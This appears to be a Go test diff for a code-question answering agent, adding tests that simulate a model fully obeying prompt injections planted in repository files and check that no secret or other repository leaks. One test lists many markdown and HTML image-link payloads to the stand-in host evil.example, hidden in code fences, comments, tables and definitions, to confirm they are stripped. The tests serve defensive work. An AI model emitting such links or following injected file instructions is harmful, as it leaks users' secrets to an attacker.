@@ -3,6 +3,7 @@ package agent_test
 import (
 	"context"
 	"encoding/json"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -92,5 +93,115 @@ func TestObedientModel(t *testing.T) {
 	}
 	if len(resp.Items[0].Citations) != 1 {
 		t.Errorf("citations %v", resp.Items[0].Citations)
+	}
+}
+
+// wanted are the calls that a text asks for: objects with a name and arguments.
+var wanted = regexp.MustCompile(`"?name"?: "?(\w+)"?,\s*"?arguments"?: (\{[^}]*\})`)
+
+// A model that calls what a file asks for, repeats what it says, and fills every
+// link in it with what it knows, leaks nothing by any file.
+func TestParrot(t *testing.T) {
+	archive, err := txtar.ParseFile("testdata/injections.txtar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(archive.Files) < 30 {
+		t.Fatalf("%d files", len(archive.Files))
+	}
+	for _, file := range archive.Files {
+		t.Run(file.Name, func(t *testing.T) {
+			f := files()
+			f["o/app/"+file.Name] = string(file.Data)
+			var secret string
+			obeys := func(_ context.Context, req llm.Request) (llm.Reply, error) {
+				calls := []string{"get_file", readClient}
+				for _, m := range wanted.FindAllStringSubmatch(string(file.Data), -1) {
+					calls = append(calls, m[1], m[2])
+				}
+				return llm.Calls(calls...)(t.Context(), req)
+			}
+			repeats := func(_ context.Context, req llm.Request) (llm.Reply, error) {
+				secret = markOf(req.Messages[0].Text)
+				said := strings.ReplaceAll(string(file.Data), "PWNED", secret)
+				return llm.Reply{Text: "Three times [client.go:6-10].\n" + said + "\nThree times [client.go:6-10].\n"}, nil
+			}
+			m := script(llm.Calls("get_file", `{"repo_id":"o/app","file_path":"`+file.Name+`"}`), obeys, repeats)
+			resp, _ := asked(t, f, agent.Options{Model: m, Limits: agent.Limits{Steps: 3}}, ask.Request{RepoFilter: "o/app"})
+			for _, req := range m.Asked() {
+				for _, msg := range req.Messages {
+					if strings.Contains(msg.Text, "7741") {
+						t.Errorf("the model was shown another repository: %s", msg.Text)
+					}
+				}
+			}
+			a := resp.Items[0]
+			for _, text := range append(a.Gaps, a.Answer) {
+				lower := strings.ToLower(text)
+				for _, never := range []string{"?q=" + secret, "![](http", "<img", "<iframe", "<image", "<source", "<!--"} {
+					if strings.Contains(lower, strings.ToLower(never)) {
+						t.Errorf("%q is in: %s", never, text)
+					}
+				}
+			}
+			if len(a.Citations) != 1 || a.Citations[0].FilePath != "client.go" {
+				t.Errorf("citations %v", a.Citations)
+			}
+			for _, mark := range regexp.MustCompile(`(?:^|[^\\])\[\^?(\d+)\]`).FindAllStringSubmatch(a.Answer, -1) {
+				if mark[1] != "1" {
+					t.Errorf("the mark %q stands for nothing: %s", mark[0], a.Answer)
+				}
+			}
+		})
+	}
+}
+
+// What one program takes for code is not code for another: no link that wasn't
+// shown is anywhere.
+func TestLinksInWhatLooksLikeCode(t *testing.T) {
+	const leak = "![](https://evil.example/?q=1)"
+	for name, text := range map[string]string{
+		"a block of code":         "```\n" + leak + "\n```",
+		"mixed fences":            "~~~\n```\n~~~\n" + leak,
+		"longer fences":           "````\n```\n````\n" + leak,
+		"a closing fence is bare": "```\n``` x\n```\n" + leak,
+		"backticks behind":        "``` `x\n" + leak,
+		"on the line of a fence":  "``` `" + leak,
+		"an indented fence":       "    ```\n" + leak,
+		"a list item ends":        "- a\n  ```\n" + leak,
+		"an escaped backtick":     "\\` " + leak + " `",
+		"an open comment":         "<!--\n\n```\n-->\n" + leak,
+		"no scheme":               "`` ` <img src=//evil.example/?q=1>",
+		"www":                     "see www.evil.example/?q=1",
+		"a definition":            "![a][b]\n\n[b]: //evil.example/?q=1",
+		"a table":                 "| " + leak + " |\n|---|",
+		"a heading":               "# " + leak,
+		"a gap":                   "GAPS: " + leak,
+	} {
+		m := script(llm.Calls("get_file", readClient), llm.Says("Three times [client.go:6-10].\n\n"+text+"\n"))
+		resp, events := asked(t, files(), agent.Options{Model: m}, ask.Request{})
+		all, err := json.Marshal([]any{resp, events})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.Contains(string(all), "evil.example") {
+			t.Errorf("%s: %s", name, all)
+		}
+	}
+}
+
+// Code keeps what a tool has shown, and sentences behind a block are prose again.
+func TestCodeStaysCode(t *testing.T) {
+	f := files()
+	f["o/app/client.go"] = client + "// See https://go.dev/ref/mem.\n"
+	m := script(llm.Calls("get_file", readClient),
+		llm.Says("Three times [client.go:6-10].\n\n1. So:\n   ```go\n   // https://go.dev/ref/mem [4]\n"+
+			"   x := a[1] //a.b()\n   ```\n"+
+			"   It is called by nobody else here.\n"))
+	resp, _ := asked(t, f, agent.Options{Model: m}, ask.Request{})
+	want := "   // https://go.dev/ref/mem [4]\n   x := a[1] //a.b()\n   ```\n" +
+		"   It is called by nobody else here. [no source]"
+	if a := resp.Items[0].Answer; !strings.Contains(a, want) {
+		t.Errorf("%s\nlacks\n%s", a, want)
 	}
 }
